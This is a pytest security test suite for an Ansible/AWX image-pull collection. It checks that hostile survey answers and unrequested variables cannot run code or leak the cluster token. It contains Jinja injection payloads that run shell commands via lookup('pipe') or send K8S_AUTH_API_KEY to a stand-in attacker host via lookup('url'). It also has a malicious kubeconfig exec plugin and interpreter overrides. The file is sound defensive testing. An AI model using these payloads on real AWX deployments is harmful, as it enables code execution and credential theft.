# Copyright (c) 2026, the openshift_ops.image_pull authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A user who may only execute a job template of extensions/awx gets no part of its credentials and cannot run her own code.

She launches each template with hostile answers and with variables that no survey asks for, and in bulk, where AWX passes all variables to
the job. The environment of the job contains the cluster's token, as in AWX. AWX is not installed: support/awx_rules.py has its rules, and
tests/runner sends jobs as AWX does.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible.errors import AnsibleError
from ansible.parsing.dataloader import DataLoader
from ansible_collections.openshift_ops.image_pull.plugins.lookup.launch import _unseal
from ansible_collections.openshift_ops.image_pull.plugins.plugin_utils.launch import (
    is_trusted_as_template,
    launch_problems,
)
from support.awx_rules import PROJECT, asked_by, bulk_variables, configuration, extra_variables, named
from support.certificates import server_context, write_certificate
from support.hostile_launches import SETS, filled, of_questions
from support.hostile_registry import HostileRegistry, answer, served
from support.lab import Lab
from support.objects import b64
from support.playbooks import Play, play

TOKEN = "canary-token-of-the-cluster"
TEMPLATES = named(configuration(), "controller_templates")
#: One template for each playbook, because templates for a zone or for many clusters have the same survey.
LAUNCHED = {one["playbook"]: name for name, one in reversed(TEMPLATES.items())}
#: Those of the playbooks with the most answers, which each change runs.
OFTEN = ("rotate.yml", "what_if.yml", "audit.yml")
#: Each template writes a file when Ansible evaluates it.
TEMPLATES_OF_JINJA = (
    "{{{{ lookup('pipe', 'touch {ran}') }}}}",
    "{{% set x = lookup('pipe', 'touch {ran}') %}}{{{{ lookup('env', 'K8S_AUTH_API_KEY') }}}}",
    "#jinja2:variable_start_string:'[%',variable_end_string:'%]'\n[% lookup('pipe', 'touch {ran}') %]",
    "a\n{{{{ lookup('url', '{url}/' ~ lookup('env', 'K8S_AUTH_API_KEY')) }}}}",
)
#: Variables that AWX writes over those of the launch (awx/main/tasks/jobs.py, build_extra_vars_file).
OF_AWX = {"awx_project_revision": "a" * 40, "awx_job_launch_type": "workflow", "awx_workflow_job_id": 17}
ODD = ("../../../../{ran}", "!unsafe x", "[a, b", "\x1b]0;x\x07", "x" * 4000, "null", "0123", "&x")


@pytest.fixture
def attacker() -> Iterator[HostileRegistry]:
    with served(answer("HTTP/1.1 200 OK", "Content-Length: 2", body=b"{}"), None) as found:
        yield found


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[dict[str, str]]:
    """The environment from the cluster's credential. The cluster refuses all requests, so that each job ends soon."""
    certificate = write_certificate(tmp_path / "cluster.pem")
    with served(answer("HTTP/1.1 401 Unauthorized", "Content-Length: 0"), server_context(certificate)) as server:
        yield {
            "K8S_AUTH_HOST": f"https://{server.host}",
            "K8S_AUTH_API_KEY": TOKEN,
            "K8S_AUTH_VERIFY_SSL": "True",
            "K8S_AUTH_SSL_CA_CERT": certificate,
        }


def unasked(attacker: HostileRegistry, ran: Path) -> dict[str, Any]:
    """Variables that would mislead the job if AWX passed them on."""
    url = f"http://{attacker.host}"
    plugin = {"command": "touch", "args": [str(ran)], "apiVersion": "client.authentication.k8s.io/v1"}
    kubeconfig = {
        "current-context": "c",
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
        "users": [{"name": "u", "user": {"exec": plugin}}],
    }
    login = {"registry": "registry.example.com", "username": "mallory", "password": "own"}
    return {
        "image_pull_host": url.replace("http:", "https:"),
        "image_pull_api_key": "own",
        "image_pull_kubeconfig": kubeconfig,
        "image_pull_proxy": url,
        "image_pull_validate_certs": False,
        "private_registry_secrets": [{"name": "planted", "namespaces": ["kube-system"], "registries": [login]}],
        "image_pull_only_namespaces": ["kube-system"],
        "image_pull_prune": True,
        "image_pull_rotation_plans": {
            "cluster": {"secrets": [{"namespace": "mallory", "name": "planted", "uid": "1"}]}
        },
        "credential_rotation_secrets": [{"namespace": "mallory", "name": "planted"}],
        "pull_access_audit_directory": str(ran),
        "automation_account_namespace": "mallory",
        "automation_account_kubeconfig": str(ran),
        "image_pull_ocm_api_url": url,
        "ansible_connection": "ssh",
        "ansible_python_interpreter": f"/bin/touch {ran}",
        "ansible_env": {"PATH": str(ran)},
    }


def hostile_answers(template: dict[str, Any], start: int, **words: str) -> dict[str, Any]:
    """Return a different answer to each question that takes text."""
    questions = [
        one
        for one in template.get("survey_spec", {}).get("spec", ())
        if one["type"] in ("text", "textarea", "password")
    ]
    texts = [text for both in zip(TEMPLATES_OF_JINJA * 2, ODD, strict=True) for text in both]
    return {
        one["variable"]: texts[(start + number) % len(texts)].format(**words)[: one["max"]]
        for number, one in enumerate(questions)
    }


def launch(
    playbook: str,
    given: dict[str, Any],
    directory: Path,
    environment: dict[str, str],
    template: str = "",
    **handed_on: Any,
) -> Play:
    """Run the template, or the one for the playbook, as AWX would. `handed_on` contains variables from the previous workflow node."""
    found = TEMPLATES[template or LAUNCHED[playbook]]
    return run(found, extra_variables(found, given, **{**handed_on, **OF_AWX}), directory, environment)


def launch_in_bulk(template: str, given: Mapping[str, Any], directory: Path, environment: dict[str, str]) -> Play:
    found = TEMPLATES[template]
    return run(found, bulk_variables(found, given, **OF_AWX), directory, environment)


def run(found: dict[str, Any], variables: str, directory: Path, environment: dict[str, str]) -> Play:
    project, playbook = directory / "project", found["playbook"]
    if not project.exists():
        shutil.copytree(PROJECT, project)
    (directory / "extravars").write_text(variables)
    options = ["-e", f"@{directory / 'extravars'}", "--diff", "-vvv"]
    options += ["--check"] if found["job_type"] == "check" else []
    inventory = project / "inventory" / "one_cluster.yml"
    home = {"HOME": str(directory), "ANSIBLE_LOCAL_TEMP": str(directory / "tmp")}
    return play(project / playbook, inventory, *options, cwd=project, **environment, **home)


@pytest.mark.parametrize(
    ("playbook", "start"),
    [
        pytest.param(playbook, 2 * number, marks=[] if playbook in OFTEN else [pytest.mark.slow])
        for number, playbook in enumerate(LAUNCHED)
    ],
)
def test_no_answer_and_no_variable_reaches_the_token_or_runs(
    attacker: HostileRegistry, cluster: dict[str, str], tmp_path: Path, playbook: str, start: int
) -> None:
    """Each template is attacked with a different text in each text answer."""
    ran = tmp_path / "ran"
    answers = hostile_answers(TEMPLATES[LAUNCHED[playbook]], start, ran=str(ran), url=f"http://{attacker.host}")
    assert_refused(launch(playbook, {**answers, **unasked(attacker, ran)}, tmp_path, cluster), tmp_path, attacker)


def test_no_variable_reaches_the_token_of_a_job_that_continues(
    attacker: HostileRegistry, cluster: dict[str, str], tmp_path: Path
) -> None:
    """A valid name lets the job continue."""
    given = unasked(attacker, tmp_path / "ran")
    others = {name: value for name, value in given.items() if not name.startswith("ansible_")}
    done = launch("new_namespaces.yml", {"new_namespaces": "team-a", **others}, tmp_path, cluster)
    assert_refused(done, tmp_path, attacker)


def assert_refused(done: Play, directory: Path, attacker: HostileRegistry) -> None:
    """The attack wrote no file, got no token and sent no request."""
    assert TOKEN not in done.output and [*directory.glob("**/ran*")] == [], done.output[-3000:]
    assert "PLAY RECAP" in done.output, done.output[-3000:]
    assert attacker.requests == []


def test_a_plan_hands_the_answers_on_and_evaluates_none(
    lab: Lab, namespace: str, attacker: HostileRegistry, bulk: dict[str, str], tmp_path: Path
) -> None:
    """The artifacts of the plan contain the user names of a survey, and so do the variables of the next node."""
    ran = tmp_path / "ran"
    texts = [text.format(ran=ran, url=f"http://{attacker.host}") for text in TEMPLATES_OF_JINJA]
    answers = {
        "rotate_registries": lab.registry("private")["host"],
        "rotate_old_username": texts[0],
        "rotate_new_username": texts[1],
        "rotate_new_password": texts[2],
        "rotate_nodes": "no",
    }
    # The only secret already holds the new login, so no registry is queried and all steps are done.
    held = {"auths": {answers["rotate_registries"]: {"username": texts[1], "password": texts[2]}}}
    data = {".dockerconfigjson": b64(held)}
    secret = {"metadata": {"name": "pull"}, "type": "kubernetes.io/dockerconfigjson", "data": data}
    lab.create(namespace, "secrets", secret)
    handed_on = passed_on("rotate.yml", answers, tmp_path / "plan", bulk, "Image pull: plan a rotation")
    ((host, plan),) = handed_on.items()
    assert (plan["old_username"], plan["new_username"]) == (texts[0], texts[1])
    (tmp_path / "rotate").mkdir()
    done = launch("rotate.yml", answers, tmp_path / "rotate", bulk, image_pull_rotation_plans=handed_on)
    assert done.status == 0 and host in done.output, done.output[-3000:]
    assert not ran.exists() and attacker.requests == []


WITH_SURVEY = [name for name, one in TEMPLATES.items() if one["survey_enabled"]]
#: Sets that are made for a playbook. Each change plays them, and with each other playbook a set of the table.
MADE_FOR = {
    "rotate.yml": "a command for the new password",
    "new_namespaces.yml": "the file of a credential",
    "automation_account.yml": "an account in the user's namespace",
    "site.yml": "another API server",
    "explain.yml": "hosts that get logins",
    "what_if.yml": "changes with a file",
}
PLAYED = [(playbook, MADE_FOR.get(playbook, [*SETS][number % len(SETS)])) for number, playbook in enumerate(LAUNCHED)]


def answers_of(template: str) -> dict[str, Any]:
    """Valid answers, so that a job without the first task continues."""
    valid = {"new_namespaces": "team-a", "teardown_confirmation": "REMOVE", "pod": "a/b", "remove_credential": "u@q.io"}
    valid |= {
        "rotate_registries": "q.io",
        "rotate_old_username": "u",
        "rotate_new_username": "v",
        "rotate_new_password": "w",
    }
    asked = {one["variable"] for one in TEMPLATES[template].get("survey_spec", {}).get("spec", ())}
    return {name: value for name, value in valid.items() if name in asked}


def loaded(path: Path) -> dict[str, Any]:
    """Read a variables file as Ansible reads the one of -e."""
    has_trust = is_trusted_as_template.__module__.startswith("ansible.")
    found = DataLoader().load_from_file(str(path), **({"trusted_as_template": True} if has_trust else {}))
    return dict(found)


def refusals(template: str, variables: str, directory: Path) -> list[str]:
    """Return the decision of the first tasks about a job with these variables, in this process."""
    (directory / "extravars").write_text(variables)
    given = loaded(directory / "extravars")
    problems = launch_problems(given, asked_by(PROJECT / TEMPLATES[template]["playbook"]))
    if not problems and "image_pull_rotation_plans" in given:
        with pytest.raises(AnsibleError, match="the plan for cluster is not trusted"):
            _unseal({**given, "inventory_hostname": "cluster"}, "image_pull_rotation_plans")
        problems = ["the plan is not trusted"]
    return problems


@pytest.mark.parametrize("name", WITH_SURVEY)
def test_no_hostile_set_of_a_bulk_launch_is_accepted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    (tmp_path / "key").write_text("key of the rotation")
    monkeypatch.setenv("IMAGE_PULL_PLAN_KEY_FILE", str(tmp_path / "key"))
    words = {"ran": str(tmp_path / "ran"), "host": "127.0.0.1:1"}
    answers = answers_of(name)
    assert refusals(name, bulk_variables(TEMPLATES[name], answers, **OF_AWX), tmp_path) == []
    questions = TEMPLATES[name]["survey_spec"]["spec"]
    wrong = of_questions(questions, **words)
    for title, given in {**filled(SETS, **words), **wrong}.items():
        variables = {**answers, **given}
        is_marked = not title.startswith("a template for ")
        text = bulk_variables(TEMPLATES[name], variables, **OF_AWX) if is_marked else yaml.safe_dump(variables)
        assert refusals(name, text, tmp_path), title
    assert len(SETS) >= 20 and len(wrong) == 2 * len(questions)


@pytest.fixture
def bulk(lab: Lab, tmp_path: Path) -> dict[str, str]:
    """The environment of a job with all credentials: those of a cluster, of registries, and the key of a rotation."""
    (tmp_path / "auth.json").write_text(
        json.dumps({"auths": {"q.io": {"username": "u", "password": "canary-password"}}})
    )
    (tmp_path / "key").write_text("key of the rotation")
    return {
        "K8S_AUTH_KUBECONFIG": lab.kubeconfig,
        "IMAGE_PULL_AUTH_FILE": str(tmp_path / "auth.json"),
        "IMAGE_PULL_PLAN_KEY_FILE": str(tmp_path / "key"),
    }


@pytest.fixture
def bulk_launch(
    lab: Lab, bulk: dict[str, str], attacker: HostileRegistry, tmp_path: Path
) -> Callable[[str, str], None]:
    """Launch the template of a playbook with a hostile set. It fails in its first tasks, without a request to the cluster or the attacker."""

    def attack(playbook: str, title: str) -> None:
        template = LAUNCHED[playbook]
        given = {**answers_of(template), **filled(SETS[title], ran=str(tmp_path / "ran"), host=attacker.host)}
        audit = lab.audit()
        done = launch_in_bulk(template, given, tmp_path, bulk)
        flat = done.text
        assert done.status != 0 and "PLAY RECAP" in flat, done.output[-3000:]
        # A variable that hides the function of the first task fails it as well, and so does a connection that is not installed.
        refused = (
            "the survey does not ask for|is not trusted|a node of this workflow failed|object is not callable"
            "|the connection plugin '[a-z._]+' was not found"
        )
        assert re.search(refused, flat), flat[-3000:]
        assert audit.ours() == [] and attacker.requests == [] and attacker.connections() == 0
        assert [*tmp_path.glob("**/ran*")] == [] and "canary-password" not in done.output

    return attack


@pytest.mark.parametrize(("playbook", "title"), PLAYED)
def test_a_bulk_launch_reaches_nothing(bulk_launch: Callable[[str, str], None], playbook: str, title: str) -> None:
    bulk_launch(playbook, title)


@pytest.mark.slow
@pytest.mark.parametrize("playbook", LAUNCHED)
def test_no_bulk_launch_reaches_anything(bulk_launch: Callable[[str, str], None], playbook: str) -> None:
    for title in SETS:
        bulk_launch(playbook, title)


@pytest.mark.parametrize("title", ["a command for the new password", "a connection that runs a command"])
def test_bulk_launches_would_run_code_without_the_first_tasks(
    lab: Lab, bulk: dict[str, str], attacker: HostileRegistry, tmp_path: Path, title: str
) -> None:
    """The sets are real attacks."""
    shutil.copytree(PROJECT, tmp_path / "project")
    path = tmp_path / "project" / "rotate.yml"
    path.write_text(yaml.safe_dump(yaml.safe_load(path.read_text())[1:2]))
    # Without a lookup that the project no longer has, a task connects to its host.
    name = "Image pull: rotate a login"
    given = {**answers_of(name), **filled(SETS[title], ran=str(tmp_path / "ran"), host=attacker.host)}
    launch_in_bulk(name, given, tmp_path, bulk)
    assert (tmp_path / "ran").exists()


def test_a_plan_is_only_for_the_workflow_that_made_it(
    lab: Lab, bulk: dict[str, str], namespace: str, tmp_path: Path
) -> None:
    """An operator launches the second job in bulk: with a plan of her own, and with a genuine one of an earlier workflow."""
    old, new = lab.registry("private")["accounts"][:2]
    host = lab.registry("private")["host"]
    held = {"auths": {host: {"username": old["username"], "password": old["password"]}}}
    data = {".dockerconfigjson": b64(held)}
    secret = {"metadata": {"name": "planted"}, "type": "kubernetes.io/dockerconfigjson", "data": data}
    made = lab.create(namespace, "secrets", secret)
    answers = {"rotate_registries": host, "rotate_nodes": "no", "rotate_how": "emergency"}
    answers |= {"rotate_old_username": old["username"], "rotate_new_username": new["username"]}
    answers |= {"rotate_new_password": new["password"]}
    planned = passed_on("rotate.yml", answers, tmp_path / "plan", bulk, "Image pull: plan a rotation")
    (plan,) = planned.values()
    assert [row["name"] for row in plan["secrets"] if row["namespace"] == namespace] == ["planted"]
    row = {"namespace": namespace, "name": "planted", "uid": made["metadata"]["uid"], "declared": True}
    forged = {**plan, "secrets": [row]}
    sealed = json.loads(plan["sealed"].partition(" ")[2])
    other = f"{plan['sealed'].partition(' ')[0]} {json.dumps({**sealed, 'plan': forged})}"
    with lab.no_requests():
        for number, (one, workflow) in enumerate(
            ((forged, 18), ({**forged, "sealed": other}, 17), ({**forged, "sealed": ""}, 17), (plan, 18))
        ):
            given = {**answers, "image_pull_rotation_plans": {"cluster": one}}
            directory = tmp_path / f"rotate-{number}"
            directory.mkdir()
            template = TEMPLATES["Image pull: rotate a login"]
            variables = bulk_variables(template, given, **{**OF_AWX, "awx_workflow_job_id": workflow})
            done = run(template, variables, directory, bulk)
            assert done.status != 0 and "the plan for cluster is not trusted" in done.text, done.output[-3000:]


def passed_on(
    playbook: str, answers: dict[str, Any], directory: Path, environment: dict[str, str], template: str
) -> dict[str, Any]:
    """Run the job that makes a plan, and return the plans that it passes to the next node."""
    directory.mkdir()
    done = launch(playbook, answers, directory, {**environment, "ANSIBLE_SHOW_CUSTOM_STATS": "1"}, template)
    assert done.status == 0, done.output[-3000:]
    (told,) = [line for line in done.output.splitlines() if line.strip().startswith("RUN: {")]
    found: dict[str, Any] = json.loads("{" + told.partition("{")[2])["image_pull_rotation_plans"]
    return found


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_job_has_the_answers_of_its_survey_and_no_other_variable(
    attacker: HostileRegistry, tmp_path: Path, name: str
) -> None:
    given = unasked(attacker, tmp_path)
    asked = {one["variable"] for one in TEMPLATES[name].get("survey_spec", {}).get("spec", ())}
    text = extra_variables(TEMPLATES[name], given)
    assert not asked & {*given} and not [one for one in given if one in text]


def test_the_attacks_are_real(attacker: HostileRegistry, cluster: dict[str, str], tmp_path: Path) -> None:
    """With unrestricted variables, without AWX's marks and without the first task, the attacks succeed."""
    ran = tmp_path / "ran"
    text = TEMPLATES_OF_JINJA[0].format(ran=ran)
    shutil.copytree(PROJECT, tmp_path / "project")
    path = tmp_path / "project" / "audit.yml"
    path.write_text(yaml.safe_dump(yaml.safe_load(path.read_text())[1:]))
    kept = {"image_pull_kubeconfig": unasked(attacker, tmp_path / "exec")["image_pull_kubeconfig"]}
    (tmp_path / "extravars").write_text(yaml.safe_dump({"audit_namespaces": text, **kept}))
    environment = {name: value for name, value in cluster.items() if name != "K8S_AUTH_API_KEY"}
    environment.pop("K8S_AUTH_HOST")
    inventory = tmp_path / "project" / "inventory" / "one_cluster.yml"
    play(path, inventory, "-e", f"@{tmp_path / 'extravars'}", cwd=tmp_path, **environment)
    assert ran.exists() and (tmp_path / "exec").exists()


@pytest.mark.parametrize(
    ("names", "said"),
    [
        (" \n", "There is no name"),
        ("team-a\nkube-system/x team-* {{ x }} A -b", "These are not names: kube-system/x, team-*, {{, }}, A, -b"),
    ],
)
def test_new_namespaces_are_names_and_never_all(cluster: dict[str, str], tmp_path: Path, names: str, said: str) -> None:
    done = launch("new_namespaces.yml", {"new_namespaces": names}, tmp_path, cluster)
    flat = done.text
    assert done.status != 0 and said in flat and "nothing was changed" in flat, done.output[-2000:]
    assert "Apply the declarations" not in done.output
